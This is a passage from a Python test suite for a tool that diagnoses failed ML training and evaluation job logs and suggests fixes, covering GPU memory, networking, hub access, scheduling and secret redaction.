        posted += [(id, [f"{before}{line}" for line in text.splitlines()]) for before in BEFORE]
        bare = [re.sub(r"^\[rank\d+\]:\s?", "", line) for line in text.splitlines()]
        posted.append((id, [f"[rank{rank}]: {line}" for line in bare for rank in (0, 1)]))
    expected = {}
    for number, (id, lines) in enumerate(posted):
        log = tmp_path / f"{number}.log"
        log.write_text("\n".join([*NOISE, *INNOCENT, *lines, *NOISE, *INNOCENT]) + "\n")
        expected[str(log)] = id
    found, code = told(*expected)
    known = {}
    for one in found["findings"]:
        if one["severity"] == f.ERROR:
            known.setdefault(one["where"].rpartition(":")[0], []).append(one["id"])
    assert code == 1 and known == {log: [id] for log, id in expected.items()}


@pytest.mark.parametrize(("action", "kind", "said"), [
    ("grpo", "Video", "tokens: 0, features: 3136"),
    ("evaluate", "Image", "tokens: 0, features 1152"),
])  # fmt: skip
def test_a_text_without_a_place_for_its_clip_is_not_too_long(tmp_path, said, kind, action):
    line = f"[rank0]: ValueError: {kind} features and {kind.lower()} tokens do not match, {said}"
    log = "\n".join([*NOISE, *INNOCENT, line, *INNOCENT])
    every, _ = of_job(tmp_path, f"{action}-20260101-120000-0a1b2c", log)
    (found,) = [one for one in every if one["severity"] == f.ERROR]
    assert found["id"] == "LOG-VISION-TOKENS-NONE" and "check_dataset.py" in found["fix"]
    assert "not too long" in found["message"] and "video_token_id" in found["message"]


@pytest.mark.parametrize("id", [entry.id for entry in ENTRIES])
def test_no_log_alone_names_a_platform(id):
    """What ran where is not said by most errors: a command for another place starts nothing."""
    entry = next(entry for entry in ENTRIES if entry.id == id)
    fix = str(entry.fix)
    assert not re.search(r"--platform (?!PLATFORM)|docker run|docker login", fix), fix
    if fix.startswith(("srun", "kubectl", "scontrol", "sudo nvidia-ctk")):
        of_place = {"LOG-FOLDER-UNSEEN", "LOG-DISK-POD", "LOG-GPUS-TAKEN", "LOG-CONTAINER-GPU"}
        assert id in of_place | {"LOG-VOLUME"}


@pytest.mark.parametrize(
    "line",
    [
        "ImportError: cannot import name 'Conv3dLayer' from 'vllm.model_executor.layers.conv'",
        "RuntimeError: GET was unable to find an engine to execute this computation",
    ],
)
@pytest.mark.parametrize(
    ("platform", "options", "words"),
    [
        ("slurm", {"partition": "gpu", "account": "a"}, "slurm --partition gpu --account a"),
        ("docker", {}, "docker"),
    ],
)
def test_a_job_s_fix_is_for_its_own_platform(line, platform, options, words, tmp_path):
    more = {"platform": platform, "options": options | {"image": "nvcr.io/x:1"}}
    (found,), _ = of_job(tmp_path, JOB, line, "tao", **more)
    assert found["fix"].endswith(f" --platform {words}")


@pytest.mark.parametrize(
    "text",
    [
        "HeaderTooLarge", "HeaderTooSmall", "InvalidHeaderDeserialization", "header too large",
        "MetadataIncompleteBuffer", "InvalidHeader", "incomplete metadata, file not fully covered",
        "invalid JSON in header: EOF while parsing a value at line 1 column 0",
    ],
)  # fmt: skip
def test_every_broken_header_is_known(text):
    line = f"safetensors_rust.SafetensorError: Error while deserializing header: {text}"
    assert [one.id for one in diagnosis.diagnose([line])] == ["LOG-WEIGHTS-HEADER"]


@pytest.mark.parametrize(("later", "expected"), [
    ("RuntimeError: cuDNN error: CUDNN_STATUS_ALLOC_FAILED", ["LOG-GPU-MEMORY"]),
    ("QuantumError: 1", ["LOG-UNKNOWN", "LOG-GPUS-TAKEN", "LOG-VOLUME"]),
    ("", ["LOG-GPUS-TAKEN", "LOG-VOLUME"]),
])  # fmt: skip
def test_what_a_pod_waited_for_does_not_explain_how_it_ended(later, expected):
    events = ["0/3 nodes are available: 2 Insufficient nvidia.com/gpu.", "Successfully assigned"]
    log = [f"Warning  FailedScheduling  12s  default-scheduler  {events[0]}", events[1]]
    log += ['Warning  FailedMount  6s  kubelet  MountVolume.SetUp failed for volume "a": timeout']
    log += ["Started container train", "Traceback (most recent call last):", later] if later else []
    assert [one.id for one in diagnosis.diagnose(log)] == expected


def test_what_ends_because_of_something_else_is_told_only_where_that_is_not_known():
    for id in ("LOG-ENDED", "LOG-REDIS-REFUSED", "LOG-ROPE-INDEX", "LOG-HUB-ACCESS"):
        lines = [*POSTED[id].splitlines(), MEMORY]
        assert [one.id for one in diagnosis.diagnose(lines)] == ["LOG-GPU-MEMORY"]
    page = "https://huggingface.co/nvidia/Cosmos-Reason2-8B"
    assert page in str(diagnosis.diagnose(POSTED["LOG-HUB-ACCESS"].splitlines())[0].fix)


LACKS = "huggingface_hub.errors.LocalEntryNotFoundError: An error happened while trying to locate x"
WATCHDOG = "[rank1]:[E] [Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=42)"
ABORTED = "E1119 08:26:02.7 28705 api.py:882] failed (exitcode: -6) local_rank: 0 (pid: 28773)"


@pytest.mark.parametrize(("lines", "expected", "is_transient"), [
    ([WATCHDOG, ABORTED, "trainer exited with code 1"], ["LOG-NCCL"], True),
    (["huggingface_hub.errors.HfHubHTTPError: 429 Client Error: x", LACKS], ["LOG-HUB-RATE"], True),
    (["socket.gaierror: [Errno -3] Temporary failure in name resolution", LACKS], ["LOG-NETWORK"],
     True),
    (["NameResolutionError(x) thrown while requesting HEAD https://huggingface.co/a/b: error",
      *POSTED["LOG-HUB-OFFLINE"].splitlines()[2:]], ["LOG-HARMLESS", "LOG-HUB-OFFLINE"], True),
    (POSTED["LOG-HUB-OFFLINE"].splitlines(), ["LOG-HUB-OFFLINE"], False),
    (["wandb: ERROR Error while calling W&B API: x (<Response [404]>)"], ["LOG-UNKNOWN"], False),
    (["FileNotFoundError: [Errno 2] No such file or directory: '/results/wandb/media/plot.png'"],
     ["LOG-UNKNOWN"], False),
    (["libpng error: No such file a.png"], ["LOG-UNKNOWN"], False),
    (["botocore.exceptions.ClientError: S3 returned error code: 403"], ["LOG-UNKNOWN"], False),
    (["OSError: [Errno 28] No space left on device: '/mnt/enroot-data/step_2'"], ["LOG-DISK-FULL"],
     False),
    (["enroot-mount: failed to mount /x: No space left on device"], ["LOG-DISK-IMAGE"], False),
    (["Warning  FailedScheduling  12s  default-scheduler  0/3 nodes are available",
      "Normal  Scheduled  2s", STEPS["embedded"].format(30)], ["LOG-NO-ERROR"], False),
    (["rm: cannot remove '/tmp/x': permission denied", "done"], ["LOG-NO-ERROR"], False),
])  # fmt: skip
def test_no_other_cause_stands_beside_or_in_place_of_the_true_one(lines, expected, is_transient):
    found = diagnosis.diagnose(lines)
    assert [one.id for one in found] == expected
    assert any(one.data.get("transient", False) for one in found) == is_transient


@pytest.mark.parametrize(
    ("action", "key"), [("grpo", "policy.model_max_length"), ("evaluate", "model.max_length")]
)
def test_a_cache_gets_a_length_that_it_holds(action, key):
    line = (
        "ValueError: To serve at least one request with the models's max seq len (8192), (2 GiB KV "
        "cache is needed. Based on the available memory, the estimated maximum model length is {}"
    )
    (found,) = diagnosis.diagnose([line.format(7000)], action=action)
    assert found.fix.changes == {key: 6144}
    for unknown in (100, ""):
        assert not diagnosis.diagnose([line.format(unknown)], action=action)[0].fix


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=80), max_size=30))
def test_no_text_breaks_it(lines):
    for finding in diagnosis.diagnose(lines):
        json.dumps(finding.to_json())


def test_secrets_are_not_quoted(monkeypatch):
    monkeypatch.setenv("WANDB_API_KEY", "canary-0123456789")
    lines = [
        "wandb: ERROR key canary-0123456789 refused",
        "pull access denied for https://bob:hunter22@nvcr.io",
        f"401 Client Error for token hf_{token_hex(16)}",
        "Killed Error canary-0123456789",
        "Error: AWS_SECRET_ACCESS_KEY=canary/abc123",
        "Error: Authorization: Bearer canary.x-y",
        "Fatal",
        "error: GET https://b/x?X-Amz-Signature=canary00ff&b=1 refused",
    ]
    text = json.dumps([x.to_json() for x in diagnosis.diagnose(lines)])
    assert not any(value in text for value in ("canary", "hunter22", "hf_"))
    assert text.count(secrets.HIDDEN) >= 3


def test_a_long_log_is_streamed():
    """25 MB, half of it one line without an end, in little memory."""

    def chunks():
        for _ in range(100_000):
            yield INNOCENT[0] + "\n"
        yield "Killed process\n"

    lines = chunks()

    class Endless(io.TextIOBase):
        given = 0

        def readline(self, size=-1):
            self.given += 1
            return "x" * size if self.given < 200 else next(lines, "")

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    found = diagnosis.diagnose(diagnosis.read_lines(Endless()))
    assert [x.id for x in found] == ["LOG-UNKNOWN"]
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


# -- the command -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"train.optm_lr": 1e-4}, ["optm_lr=1e-05", "optm_warmup_steps=0.1"]),
        ({"train.optm_lr": 1e-6}, ["optm_lr=1e-07", "optm_warmup_steps=0.1"]),
        (
            {"train.optm_lr": 5e-7, "train.optm_warmup_steps": 50, CLIP: 0.3},
            ["optm_lr=5e-08"],
        ),
        ({CLIP: 0}, ["optm_lr=1e-07", "optm_warmup_steps=0.1", "optm_grad_norm_clip=1.0"]),
    ],
)
def test_a_lost_loss_makes_nothing_wilder(changes, expected, tmp_path):
    """The rate of the run is lowered, whatever it was; a longer warm-up and a lower clip stay."""
    log = "[cosmos] INFO - Step: 12/900, Loss: nan, Grad norm: nan"
    (found,), _ = of_job(tmp_path, JOB, log, "tao", changes)
    pairs = [word.removeprefix("train.") for word in shlex.split(found["fix"]) if "=" in word]
    assert pairs == expected


MEMORY = "torch.OutOfMemoryError: CUDA out of memory."


@pytest.mark.parametrize(("engine", "changes", "offered"), [
    ("transformers", {}, ["tokens_per_pass"]),
    ("transformers", {"custom.transformers_engine.tokens_per_pass": 512}, ["total_pixels"]),
    ("tao", {}, ["activation_offload", "fsdp_offload"]),
    ("tao", {"train.fsdp_offload": True, "custom.vision.total_pixels": 65536},
     ["activation_offload"]),
    ("tao", {"train.train_policy.mini_batch": 2, "custom.vision.total_pixels": 65536},
     ["mini_batch", "activation_offload", "fsdp_offload"]),
    ("transformers", {"custom.transformers_engine.tokens_per_pass": 512,
                      "custom.vision.total_pixels": 65536}, []),
])  # fmt: skip
def test_fixes_of_a_job_change_its_spec(engine, changes, offered, tmp_path):
    """Only what its engine applies and its spec does not have yet, and fewer pixels, which change
    what is learned, where nothing else is left; the whole command runs when pasted."""
    (found,), folder = of_job(tmp_path, JOB, MEMORY, engine, changes)
    words = shlex.split(found["fix"])
    assert [word.partition("=")[0].rpartition(".")[2] for word in words if "=" in word] == offered
    assert (str(folder / "spec.toml") in words) == bool(offered)
    if offered == ["tokens_per_pass"]:
        assert "longer than tokens_per_pass they are what helps" in found["message"]
    if offered == ["total_pixels"]:
        done = run_script(words[0].removeprefix("scripts/"), *words[1:], cwd=tmp_path)
        assert (
            done.returncode == 0 and "total_pixels = 2097152" in (tmp_path / words[-1]).read_text()
        ), done.stderr


def test_fixes_of_a_log_and_of_a_job_without_its_spec_name_the_command(tmp_path):
    usual = "/build_spec.py train --spec SPEC.toml --set custom.vision."
    job, folder = JOB, job_folder(tmp_path, JOB)
    (folder / "log.txt").write_text(MEMORY)
    (tmp_path / "log.txt").write_text(MEMORY)
    assert usual in run_script("diagnose_log.py", tmp_path / "log.txt").stderr
    for text in ("policy = 3", "= broken"):
        (folder / "spec.toml").write_text(text)
        assert "/build_spec.py train" in run_script("diagnose_log.py", job, cwd=tmp_path).stderr
    (folder / "spec.toml").unlink()
    assert usual in run_script("diagnose_log.py", job, cwd=tmp_path).stderr
    assert usual in run_script("diagnose_log.py", f"jobs/{job}", cwd=tmp_path).stderr


def test_fixes_of_an_evaluation_have_its_keys_and_the_model_s_job(tmp_path):
    folder = job_folder(tmp_path, EVALUATION, parent_job=JOB)
    ways = {
        "KeyError: 'video_fps'": "",
        "lm_head.lora_A is unsupported LoRA weight": f"{tmp_path}/jobs/{JOB} --by NAME",
        "KeyError: 'output_dir'": "build_spec.py evaluate --engine transformers "
        f"--spec {folder}/spec.toml -o",
    }
    for line, expected in ways.items():
        (folder / "log.txt").write_text(f"ValueError: {line}" if "LoRA" in line else line)
        (found, *_) = told(EVALUATION, cwd=tmp_path)[0]["findings"]
        assert expected in found["fix"] and "custom" not in found["fix"]
        assert expected or not found["fix"]


@pytest.mark.parametrize(("job", "table", "media"), [
    (JOB, "custom.train_dataset", "media_path"), (EVALUATION, "dataset", "media_dir"),
])  # fmt: skip
def test_fixes_of_a_job_name_its_data(job, table, media, tmp_path):
    root = write_dataset(tmp_path / "my data", [record(0)])
    annotations = str(root / "annotations.json")
    data = {f"{table}.annotation_path": annotations, f"{table}.{media}": str(root)}
    log = "RuntimeError: Requested next frame while there are no more frames left to decode."
    (found,), _ = of_job(tmp_path, job, log, changes=data)
    script, *words = shlex.split(found["fix"])
    assert words == [annotations, "--media-path", str(root), "--decode", "all"]
    assert run_script(script.removeprefix("scripts/"), *words).returncode == 0
    nameless = {key: "" for key in data}
    (found,), _ = of_job(tmp_path, job.replace("0a", "1a"), log, changes=nameless)
    assert "check_dataset.py ROOT" in found["fix"]


def test_several_logs_are_told_apart(tmp_path):
    (tmp_path / "a.log").write_text("fine\n")
    (tmp_path / "b.log").write_text("KeyError: 'video_fps'\n")
    found, code = told("a.log", "b.log", cwd=tmp_path)
    assert [(x["id"], x["where"]) for x in found["findings"]] == [
        ("LOG-NO-ERROR", "a.log"),
        ("LOG-VIDEO-FPS-KEY", "b.log:1"),
        ("LOG-SPEC-UNKNOWN", "b.log"),
    ]
    assert code == 1 and found["result"] == {"cause": "LOG-VIDEO-FPS-KEY"}
    done = run_script("diagnose_log.py", "b.log", "c.log", "d.log", cwd=tmp_path)
    assert done.returncode == 2 and "c.log" in done.stderr and "d.log" in done.stderr
    assert done.stderr.index("LOG-VIDEO-FPS-KEY") < done.stderr.index("c.log"), (
        "what was found is told all the same"
    )


def test_file_stdin_and_job(tmp_path):
    log = tmp_path / "log.txt"
    log.write_bytes(b"\xff\xfe step 1\rstep 2\rKeyError: 'video_fps'\n")
    whole, code = told(log)
    found, unknown = whole["findings"]
    assert unknown["id"] == "LOG-SPEC-UNKNOWN" and code == 1
    assert (found["id"], found["where"]) == ("LOG-VIDEO-FPS-KEY", f"{log}:3")
    job = EVALUATION
    folder = job_folder(tmp_path, job, reason="every row is an error, most often: QuantumError")
    (folder / "log.txt").write_text(
        "error: EVAL-ALL-FAILED r.json: got no answer to any question: see `error`\n"
    )
    assert "most often: QuantumError" in run_script("diagnose_log.py", job, cwd=tmp_path).stderr
    (folder / "log.txt").write_text("torch.OutOfMemoryError: CUDA out of memory.\n")
    assert told(job, cwd=tmp_path)[0]["result"] == {"cause": "LOG-GPU-MEMORY-EVALUATE"}
    # Passing reasons: a new spec with train.resume=true would have a folder of its own, and nothing
    # there to go on from.
    for reason in ("NODE FAILURE", "TIME LIMIT"):
        (folder / "log.txt").write_text(
            f"slurmstepd: error: *** JOB 1 ON n CANCELLED AT 1 DUE TO {reason} ***\n"
        )
        (passing,) = told(job, cwd=tmp_path)[0]["findings"]
        assert passing["fix"].endswith(f"/launch_job.py retry {job}")
    (folder / "log.txt").write_text("Loss: 1.2\n")
    whole, code = told(job, cwd=tmp_path)  # the record knows that it failed
    assert code == 1 and whole["result"] == {"cause": "LOG-UNKNOWN"}


def test_what_is_not_a_log_is_refused(tmp_path):
    (tmp_path / "logs").mkdir()
    for name in ("controller.log", "policy_0.log"):
        (tmp_path / "logs" / name).write_text("")
    done = run_script("diagnose_log.py", tmp_path / "logs")
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "controller.log" in done.stderr and "policy_0.log" in done.stderr
    assert (
        run_script("diagnose_log.py", "train-20260101-120000-0a1b2d", cwd=tmp_path).returncode == 2
    )
    assert run_script("diagnose_log.py").returncode == 2
    (tmp_path / "odd.log").write_text("Traceback (most\n  File a\nQuantumError: b\n")
    assert run_script("diagnose_log.py", tmp_path / "odd.log").stdout.splitlines()[1:] == [
        "  File a",
        "QuantumError: b",
    ]


def test_list_checks_names_every_error():
    assert set(told("--list-checks")[0]["result"]["checks"]) == {entry.id for entry in ENTRIES}


def test_one_error_is_explained():
    entry = next(entry for entry in ENTRIES if entry.id == "LOG-HUB-GATED")
    said = told("--explain", entry.id)[0]["result"]
    expected = (entry.cause, str(entry.fix), list(entry.example))
    assert (said["cause"], said["fix"], said["example"]) == expected
    done = run_script("diagnose_log.py", "x.log", "--explain", entry.id)
    assert done.returncode == 2 and "drop x.log" in done.stderr
    done = run_script("diagnose_log.py", "--explain", "LOG-HUB-GATE")
    assert done.returncode == 2 and "LOG-HUB-GATED" in done.stderr
